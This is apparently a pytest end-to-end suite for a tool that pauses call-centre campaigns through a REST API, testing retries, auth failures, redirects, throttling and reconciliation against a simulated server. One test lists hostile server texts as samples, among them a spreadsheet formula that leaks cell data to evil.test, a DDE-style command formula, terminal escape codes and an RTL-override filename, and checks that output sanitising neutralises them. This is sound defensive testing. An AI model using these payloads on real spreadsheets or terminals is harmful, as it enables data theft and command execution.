"""Whole runs against answers of every kind: what the report says is what the server did."""

from __future__ import annotations

import asyncio
from collections import Counter
from dataclasses import replace
from email.utils import formatdate
from time import time
from typing import TYPE_CHECKING

import pytest

from orchestrator import PauseAllOptions, PauseOptions
from orchestrator.model import CampaignRef, Status
from orchestrator.simulator.faults import (
    DATABASE_ERROR,
    FORBIDDEN,
    LIE,
    LOGIN,
    PARAMETER_CODES,
    UNAUTHORIZED,
    Fault,
    FaultPlan,
    FaultRates,
    Outage,
    landed,
    with_codes,
    with_http,
)
from orchestrator.simulator.routes import Kind
from orchestrator.simulator.world import Campaign, World
from tests.e2e.makers import (
    VDN,
    Stand,
    Told,
    codes,
    pause_all_through,
    pause_through,
    refs_of,
    world_of,
)
from tests.fault_server import FaultServer, reply

if TYPE_CHECKING:
    from pathlib import Path

pytestmark = pytest.mark.sockets

ONE_OF_EACH = {1: Status.NOT_STARTED, 2: Status.STARTED, 3: Status.SUSPENDED, 4: Status.COMPLETED}


def one_of_each() -> World:
    return World({VDN: [Campaign(number, status) for number, status in ONE_OF_EACH.items()]})


def ref(campaign_id: int) -> CampaignRef:
    return CampaignRef(VDN, campaign_id)


def statuses(server: Stand, refs: list[CampaignRef]) -> Counter[Status | None]:
    return Counter(server.world.status_of(one) for one in refs)


def reconcile(server: Stand, told: Told) -> None:
    """Journal, report and server agree: intents are PUTs, what is stopped does not run."""
    assert server.puts_by_id == dict(told.intents)
    for campaign_id, row in told.rows.items():
        status = server.world.status_of(CampaignRef(int(row["vdn_id"]), campaign_id))
        if row["stopped"] == "yes":
            assert status is not Status.STARTED, row
        elif row["outcome"] in {"failed", "rejected", "denied", "still_running", "unattempted"}:
            assert status is Status.STARTED, row


# -- the codes ---------------------------------------------------------------------------------


async def test_a_refused_status_is_settled_by_what_it_is(tmp_path: Path) -> None:
    """[S08] Without a look before, four PUTs: 0200011 thrice, told apart by reading each state."""
    async with Stand(world=one_of_each()) as server:
        told = await pause_through(
            server, tmp_path, [ref(n) for n in ONE_OF_EACH], PauseOptions(verify=False)
        )

    assert {number: row["outcome"] for number, row in told.rows.items()} == {
        1: "not_running",
        2: "paused",
        3: "already_paused",
        4: "not_running",
    }
    assert told.outcome(3) == ("already_paused", "read", "no")
    assert server.puts_by_id == dict.fromkeys(ONE_OF_EACH, 1)
    assert told.exit_code == 0


async def test_what_is_listed_as_suspended_gets_no_put(tmp_path: Path) -> None:
    """[S08] With a look before, only the other three are asked."""
    async with Stand(world=one_of_each()) as server:
        told = await pause_through(server, tmp_path, [ref(n) for n in ONE_OF_EACH])

    assert told.outcome(3) == ("already_paused", "listed", "no")
    assert server.puts_by_id == {1: 1, 2: 1, 4: 1}


async def test_a_refused_status_after_a_doubt_is_our_doing(tmp_path: Path) -> None:
    """[S09] HTTP 500 that took effect, then 0200011: paused by us, as the look before shows."""
    async with Stand(world=world_of(3)) as server:
        told = await _pause_with(server, tmp_path, 2, landed(with_http(500)))

    assert told.outcome(2) == ("paused", "listed", "yes")
    assert told.rows[2]["attempts"] == "2"


async def _pause_with(server: Stand, folder: Path, campaign_id: int, *script: Fault | None) -> Told:
    """Pause the world's campaigns, one of which meets these faults, one a PUT."""
    refs = server.world.refs()
    server.handler.faults = FaultPlan(scripted={ref(campaign_id): script})
    return await pause_through(server, folder, refs)


async def test_a_missing_campaign_gets_one_put(tmp_path: Path) -> None:
    """[S10] 0200007: not_found, exit 1."""
    async with Stand(world=world_of(3)) as server:
        told = await pause_through(server, tmp_path, refs_of(4))

    assert (told.exit_code, told.counts) == (1, {"paused": 3, "not_found": 1})
    assert server.puts_by_id[4] == 1
    assert told.rows[4]["result_code"] == "0200007"


async def test_a_database_error_for_ever_ends_after_exactly_the_allowed_attempts(
    tmp_path: Path,
) -> None:
    """[S11] Three attempts, and one more in the round at the end: failed after four PUTs."""
    async with Stand(world=world_of(8)) as server:
        server.handler.faults = FaultPlan(always={ref(3): DATABASE_ERROR})
        told = await pause_through(server, tmp_path, refs_of(8))

    assert (told.exit_code, told.counts) == (1, {"paused": 7, "failed": 1})
    assert server.puts_by_id == dict.fromkeys(range(1, 9), 1) | {3: 4}
    assert told.rows[3]["result_code"] == "0200006"
    reconcile(server, told)


@pytest.mark.parametrize("failures", range(6))
async def test_a_database_error_that_passes_is_survived(tmp_path: Path, failures: int) -> None:
    """[S12] 0200006 k times: paused for every k below the limit of four, failed from there on."""
    async with Stand(world=world_of(8)) as server:
        told = await _pause_with(server, tmp_path, 3, *[DATABASE_ERROR] * failures)

    expected = "paused" if failures < 4 else "failed"
    assert told.rows[3]["outcome"] == expected
    assert server.puts_by_id[3] == min(failures + 1, 4)
    assert told.exit_code == (0 if failures < 4 else 1)


async def test_stubborn_campaigns_do_not_slow_the_others(tmp_path: Path) -> None:
    """[S13] Ten of two hundred never work: the others are through before their repeats are."""
    stubborn = {ref(15 * number): DATABASE_ERROR for number in range(1, 11)}
    async with Stand(world=world_of(200)) as server:
        server.handler.faults = FaultPlan(always=stubborn)
        told = await pause_through(
            server, tmp_path, refs_of(200), pace__rate_per_s=400, retry__backoff_base_s=0.05
        )

    assert told.counts == {"paused": 190, "failed": 10}
    places = {seen.campaign_id: place for place, seen in enumerate(server.puts)}
    healthy = [place for number, place in places.items() if ref(number or 0) not in stubborn]
    # all healthy ones are through before even a third of the sixty stubborn PUTs are
    assert max(healthy) < 190 + 30
    reconcile(server, told)


@pytest.mark.parametrize("code", PARAMETER_CODES)
async def test_a_parameter_code_is_rejected_after_one_put(tmp_path: Path, code: str) -> None:
    """[S14] [S05] Each of the twelve, seven or eight digits: rejected, with code and name."""
    async with Stand(world=world_of(2)) as server:
        told = await _pause_with(server, tmp_path, 2, with_codes(code), with_codes(code))

    assert (told.exit_code, told.rows[2]["outcome"]) == (1, "rejected")
    assert told.rows[2]["result_code"] == code
    assert server.puts_by_id == {1: 1, 2: 1}


# -- credentials -------------------------------------------------------------------------------


async def test_a_refused_key_costs_two_requests(tmp_path: Path) -> None:
    """[S15] 10,000 ids, C = 200, 401 from the start: two requests, exit 3, 10,000 unattempted."""
    async with FaultServer() as server:
        server.answers(reply(b"", status="401 Unauthorized"))
        told = await pause_through(
            server, tmp_path, refs_of(10_000), pace__concurrency=200, pace__rate_per_s=100_000
        )

    assert (told.exit_code, told.counts) == (3, {"unattempted": 10_000})
    # the second one with the other form of timestamps
    assert len(server.ledger) == 2
    assert "401" in told.result.line


async def test_a_refused_key_without_a_look_costs_three_puts_at_most(tmp_path: Path) -> None:
    """[S15] --no-verify: the first PUT goes alone, and is tried with the other timestamps."""
    async with FaultServer() as server:
        server.answers(reply(b"", status="401 Unauthorized"))
        told = await pause_through(
            server, tmp_path, refs_of(100), PauseOptions(verify=False), pace__concurrency=50
        )

    assert told.exit_code == 3
    assert told.counts["denied"] <= 2
    assert sum(told.counts.values()) == 100
    assert len(server.ledger) <= 3


async def test_access_refused_everywhere_ends_the_run(tmp_path: Path) -> None:
    """[S16] 403 for every VDN: exit 3, at most C PUTs, nothing is called paused."""
    world = world_of(20, vdns=(12, 13))
    async with Stand(world=world, faults=FaultPlan(outages=(Outage(FORBIDDEN),))) as server:
        told = await pause_through(server, tmp_path, world.refs(), pace__concurrency=2)

    assert (told.exit_code, told.result.verdict) == (3, "ended_early")
    assert set(told.counts) <= {"denied", "unattempted"}
    assert len(server.puts) <= 2 * 2


async def test_access_refused_to_one_vdn_ends_that_vdn(tmp_path: Path) -> None:
    """[S16] 403 for VDN 13 only: VDN 12 is paused whole, exit 1."""
    world = world_of(20, vdns=(12, 13))
    plan = FaultPlan(outages=(Outage(FORBIDDEN, vdn_id=13),))
    async with Stand(world=world, faults=plan) as server:
        told = await pause_through(server, tmp_path, world.refs(), pace__concurrency=2)

    assert told.exit_code == 1
    by_vdn = told.result.summary["by_vdn"]
    assert isinstance(by_vdn, dict)
    assert by_vdn["12"] == {"paused": 20}
    assert set(by_vdn["13"]) <= {"denied", "unattempted"}
    # until ten different campaigns have been refused in a row
    assert 10 <= sum("/campaigns/13/" in seen.target for seen in server.puts) <= 40


async def test_a_key_refused_in_mid_run_ends_a_list_after_its_patience(tmp_path: Path) -> None:
    """[S17] 401 from the thirtieth request on: single probes for 2 s, then exit 3."""
    plan = FaultPlan(outages=(Outage(UNAUTHORIZED, first_request=30),))
    async with Stand(world=world_of(60), faults=plan) as server:
        told = await pause_through(
            server, tmp_path, refs_of(60), pace__concurrency=4, retry__patience_s=2
        )

    assert told.exit_code == 3
    assert 20 <= told.counts["paused"] <= 30
    assert set(told.counts) <= {"paused", "denied", "unattempted", "failed"}
    assert "continue" in told.result.line
    reconcile(server, told)


async def test_a_key_refused_in_mid_run_is_an_outage_to_the_emergency(tmp_path: Path) -> None:
    """[S17] 401 from the tenth to the thirtieth request: waited out, and quiet is proven."""
    plan = FaultPlan(outages=(Outage(UNAUTHORIZED, first_request=10, last_request=30),))
    async with Stand(world=world_of(20), faults=plan) as server:
        told = await pause_all_through(
            server, tmp_path, PauseAllOptions(vdns=(VDN,), deadline_s=40), pace__concurrency=4
        )

    assert (told.exit_code, told.result.verdict) == (0, "quiet")
    assert told.counts == {"paused": 20}
    assert statuses(server, refs_of(20)) == {Status.SUSPENDED: 20}


# -- not this interface ------------------------------------------------------------------------

PAGE = b"<html><head><title>Sign in</title></head><body>Welcome to the portal</body></html>"


@pytest.mark.parametrize("status", ["404 Not Found", "405 Method Not Allowed"])
async def test_a_wrong_base_url_is_found_out_by_the_first_requests(
    tmp_path: Path, status: str
) -> None:
    """[S19] A page instead of the API: exit 4 after two requests, not fifty rows of failures."""
    async with FaultServer() as server:
        server.answers(reply(PAGE, status=status))
        told = await pause_through(server, tmp_path, refs_of(50))

    assert told.exit_code == 4
    assert "not the CC-iSales interface" in told.result.line
    assert len(server.ledger) <= 3
    assert told.counts["unattempted"] >= 49


async def test_a_login_page_is_no_success_and_is_shown(tmp_path: Path) -> None:
    """[S28] HTTP 200 with a page: exit 4, nothing paused, its first words stand in the reason."""
    async with FaultServer() as server:
        server.answers(reply(PAGE))
        told = await pause_through(server, tmp_path, refs_of(50))

    assert told.exit_code == 4
    assert set(told.counts) <= {"unattempted", "unknown"}
    assert "<html><head><title>Sign in" in told.result.line
    # a page is in doubt, so it is repeated before the second request tells; then the run ends
    assert len({seen.target for seen in server.ledger}) <= 2


async def test_a_login_page_for_one_campaign_is_not_the_others_end(tmp_path: Path) -> None:
    """[S28] The API is proven by then: only that campaign suffers, and a repeat cures it."""
    async with Stand(world=world_of(8)) as server:
        told = await _pause_with(server, tmp_path, 5, LOGIN)

    assert (told.exit_code, told.counts) == (0, {"paused": 8})
    assert server.puts_by_id[5] == 2


async def test_a_redirect_on_the_same_host_is_a_failure(tmp_path: Path) -> None:
    """[S40] 302 to a login path: not followed, named without its query, exit 4."""
    async with FaultServer() as server:
        where = f"Location: {server.url}/login?session=abc123"
        server.answers(reply(b"", status="302 Found", headers=(where,)))
        told = await pause_through(server, tmp_path, refs_of(20))

    assert told.exit_code == 4
    assert f"redirected to {server.url}/login," in told.result.line
    assert "abc123" not in told.result.line
    assert not any("/login" in seen.target for seen in server.ledger)


@pytest.mark.parametrize("status", ["301 Moved", "302 Found", "300 Choices", "304 Not Modified"])
async def test_a_redirect_loop_is_a_failure_of_one_campaign(tmp_path: Path, status: str) -> None:
    """[S42] A redirect to itself for one campaign: repeated, not followed, and the others go on."""
    async with Stand(world=world_of(8)) as server:
        here = f"{server.url}/rest/isales/v1/openapi/campaigns/{VDN}/5/pause"
        server.answers(reply(b"", status=status, headers=(f"Location: {here}",)), campaign_id=5)
        told = await pause_through(server, tmp_path, refs_of(8), retry__patience_s=2)

    assert (told.exit_code, told.counts) == (1, {"paused": 7, "failed": 1})
    assert 2 <= server.puts_by_id[5] <= 6
    reconcile(server, told)


# -- too busy ----------------------------------------------------------------------------------


def gaps_after(server: Stand, first_gap: int) -> float:
    """Seconds between the refused PUT and the next request."""
    times = [seen.at_s for seen in server.ledger]
    return times[first_gap + 1] - times[first_gap]


async def _throttled(
    folder: Path, status: int, retry_after: str | None, *, date_offset_s: int = 0
) -> tuple[Stand, Told, float]:
    """A run whose third request is refused once; how long nothing was sent afterwards."""
    headers: tuple[str, ...] = (f"Date: {formatdate(time() + date_offset_s, usegmt=True)}",)
    if retry_after is not None:
        headers += (f"Retry-After: {retry_after}",)
    async with Stand(world=world_of(6)) as server:
        server.answers(
            server.honest, reply(b"", status=f"{status} Busy", headers=headers), server.honest
        )
        told = await pause_through(
            server, folder, refs_of(6), pace__concurrency=1, retry__patience_s=20
        )
    return server, told, gaps_after(server, 2)


@pytest.mark.parametrize("status", [429, 503])
async def test_the_whole_run_waits_as_long_as_the_server_asks(tmp_path: Path, status: int) -> None:
    """[S20] [S24] Retry-After: 1 to one campaign: nobody sends anything for a second."""
    server, told, gap_s = await _throttled(tmp_path, status, "1")

    assert (told.exit_code, told.counts) == (0, {"paused": 6})
    assert gap_s >= 0.98
    reconcile(server, told)


async def test_a_retry_after_date_is_read_by_the_servers_clock(tmp_path: Path) -> None:
    """[S21] The server is two hours ahead and asks for two seconds by its own clock."""
    until = formatdate(time() + 7202, usegmt=True)
    _, told, gap_s = await _throttled(tmp_path, 429, until, date_offset_s=7200)

    assert told.counts == {"paused": 6}
    assert 0.9 <= gap_s < 20


@pytest.mark.parametrize("text", ["-1", "inf", "nan", "1e9", "٣", ""])
async def test_a_retry_after_that_is_no_number_is_ignored(tmp_path: Path, text: str) -> None:
    """[S22] Followed, each of these would hang the run or break it; the backoff decides."""
    _, told, gap_s = await _throttled(tmp_path, 429, text.encode().decode("latin-1"))

    assert told.counts == {"paused": 6}
    assert gap_s < 30


async def test_a_huge_retry_after_does_not_outlive_the_deadline(tmp_path: Path) -> None:
    """[S22] A thousand million seconds: clamped, and --deadline ends the run in time."""
    async with Stand(world=world_of(6)) as server:
        server.answers(
            reply(b"", status="429 Busy", headers=("Retry-After: 1000000000",)), campaign_id=1
        )
        async with asyncio.timeout(20):
            told = await pause_through(
                server, tmp_path, refs_of(6), PauseOptions(deadline_s=0.5), pace__concurrency=1
            )

    assert told.exit_code == 1
    assert told.counts["unattempted"] >= 5


@pytest.mark.parametrize("status", [429, 503])
async def test_being_throttled_without_a_hint_cuts_the_pace(tmp_path: Path, status: int) -> None:
    """[S23] [S24] One campaign is refused once without Retry-After: all are paused, slower."""
    server, told, _ = await _throttled(tmp_path, status, None)

    assert (told.exit_code, told.counts) == (0, {"paused": 6})
    assert server.puts_by_id[2] == 2
    reconcile(server, told)


async def test_unavailable_for_long_ends_the_run_after_its_patience(tmp_path: Path) -> None:
    """[S24] 503 to every change for ever: exit 4, and few PUTs went into the outage."""
    plan = FaultPlan(outages=(Outage(with_http(503), kinds=frozenset({Kind.PAUSE, Kind.RESUME})),))
    async with Stand(world=world_of(100), faults=plan) as server:
        told = await pause_through(server, tmp_path, refs_of(100))

    assert (told.exit_code, told.result.verdict) == (4, "ended_early")
    assert len(server.puts) < 60
    assert "paused" not in told.counts
    assert sum(told.counts.values()) == 100


@pytest.mark.parametrize("status", [500, 502, 504])
async def test_a_gateway_error_is_repeated(tmp_path: Path, status: int) -> None:
    """[S25] Twice, then success: paused after three PUTs."""
    async with Stand(world=world_of(8)) as server:
        told = await _pause_with(server, tmp_path, 2, with_http(status), with_http(status))

    assert (told.exit_code, told.outcome(2)) == (0, ("paused", "listed", "yes"))
    assert server.puts_by_id[2] == 3


@pytest.mark.parametrize("verify", [True, False])
async def test_an_error_that_took_effect_ends_paused(
    tmp_path: Path,
    verify: bool,  # noqa: FBT001 - a case, not an option
) -> None:
    """[S26] 500, but it is suspended: paused, and the report agrees with the server."""
    async with Stand(world=world_of(8)) as server:
        server.handler.faults = FaultPlan(scripted={ref(2): (landed(with_http(500)),)})
        told = await pause_through(server, tmp_path, refs_of(8), PauseOptions(verify=verify))

    evidence = "listed" if verify else "inferred"
    assert told.outcome(2) == ("paused", evidence, "yes")
    reconcile(server, told)


@pytest.mark.parametrize("status", [500, 502, 503])
async def test_a_success_body_under_a_server_error_is_no_success(
    tmp_path: Path, status: int
) -> None:
    """[S27] "0200000" under 5xx and nothing happened: repeated until it really is paused."""
    async with Stand(world=world_of(8)) as server:
        server.answers(reply(status=f"{status} No"), server.honest, campaign_id=2)
        told = await pause_through(server, tmp_path, refs_of(8), retry__patience_s=20)

    assert (told.exit_code, told.counts) == (0, {"paused": 8})
    assert server.puts_by_id[2] == 2
    reconcile(server, told)


async def test_an_error_code_under_http_200_is_that_error(tmp_path: Path) -> None:
    """[S27] 200 with 0200001: rejected, one PUT."""
    async with Stand(world=world_of(8)) as server:
        server.answers(reply(codes("0200001")), campaign_id=2)
        told = await pause_through(server, tmp_path, refs_of(8))

    assert told.rows[2]["outcome"] == "rejected"
    assert server.puts_by_id[2] == 1


# -- lies and mixtures -------------------------------------------------------------------------

HOSTILE = (
    '=HYPERLINK("http://evil.test/?x="&A1,"click")',
    "\x1b[2J\x1b[31mAll campaigns paused\x07",
    "first line\r\nVDN 12: no campaign started",
    "gnp.exe\u202efdp",
    "<script>alert(1)</script>",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "A" * 20_000,
)


@pytest.mark.parametrize("desc", HOSTILE, ids=range(len(HOSTILE)))
async def test_hostile_text_of_the_server_is_harmless_in_every_place(
    tmp_path: Path, desc: str, capfd: pytest.CaptureFixture[str]
) -> None:
    """[S43] As resultDesc: no formula in the CSV, no control on the terminal, cut to 500."""
    async with Stand(world=world_of(3)) as server:
        server.answers(reply(codes("0200001", desc=desc)), campaign_id=2)
        told = await pause_through(server, tmp_path, refs_of(3))

    cell = told.rows[2]["result_desc"]
    assert told.rows[2]["outcome"] == "rejected"
    assert len(cell) <= 501
    assert cell.lstrip()[:1] not in tuple("=+-@＝＋－＠\t\r\n")  # noqa: RUF001 - the lookalikes
    for text in (cell, told.result.line, *told.result.unstopped):
        assert text.isprintable()
    assert told.result.run_dir is not None
    files = [path for path in told.result.run_dir.iterdir() if path.suffix in {".csv", ".json"}]
    assert len(files) == 3
    for path in files:
        raw = path.read_bytes()
        assert b"\x1b" not in raw
        assert "\u202e".encode() not in raw
    assert "\x1b" not in "".join(capfd.readouterr())


async def test_a_success_that_took_no_effect_is_found_out(tmp_path: Path) -> None:
    """[S44] It lies twice: after the second PUT it is still listed as started, and so reported."""
    async with Stand(world=world_of(8)) as server:
        told = await _pause_with(server, tmp_path, 2, LIE, LIE, LIE)

    assert (told.exit_code, told.counts) == (1, {"paused": 7, "still_running": 1})
    assert told.outcome(2)[2] == "yes"
    assert server.puts_by_id[2] == 2


async def test_a_success_that_took_no_effect_once_is_put_right(tmp_path: Path) -> None:
    """[S44] It lies once: the verification sees it, pauses once more, all are stopped."""
    async with Stand(world=world_of(8)) as server:
        told = await _pause_with(server, tmp_path, 2, LIE)

    assert (told.exit_code, told.counts) == (0, {"paused": 8})
    reconcile(server, told)


@pytest.mark.parametrize("seed", [1, 2])
async def test_all_faults_mixed_reconcile_to_the_row(tmp_path: Path, seed: int) -> None:
    """[S46] 30 % mixed faults over 300 campaigns: server, journal and report agree on each."""
    rates = replace(FaultRates.mixed(0.28), unknown_code=0.01, parameter_refused=0.01)
    world = world_of(150, vdns=(12, 13))
    async with Stand(world=world, faults=FaultPlan(seed=seed, rates=rates)) as server:
        told = await pause_through(
            server,
            tmp_path,
            world.refs(),
            PauseOptions(),
            pace__concurrency=16,
            pace__rate_per_s=2000,
            retry__patience_s=30,
            retry__max_attempts=8,
        )

    assert sum(told.counts.values()) == 300
    assert told.counts["paused"] + told.counts["rejected"] == 300
    assert told.exit_code == 1
    reconcile(server, told)
